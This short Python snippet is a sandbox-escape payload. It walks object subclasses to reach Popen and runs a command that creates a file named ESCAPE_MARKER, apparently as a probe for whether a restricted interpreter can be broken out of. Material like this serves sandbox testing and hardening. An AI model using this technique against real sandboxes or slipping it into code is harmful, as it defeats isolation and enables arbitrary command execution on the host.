subs = ().__class__.__bases__[0].__subclasses__()
for c in subs:
    if c.__name__ == "Popen":
        c(["touch", "ESCAPE_MARKER"])
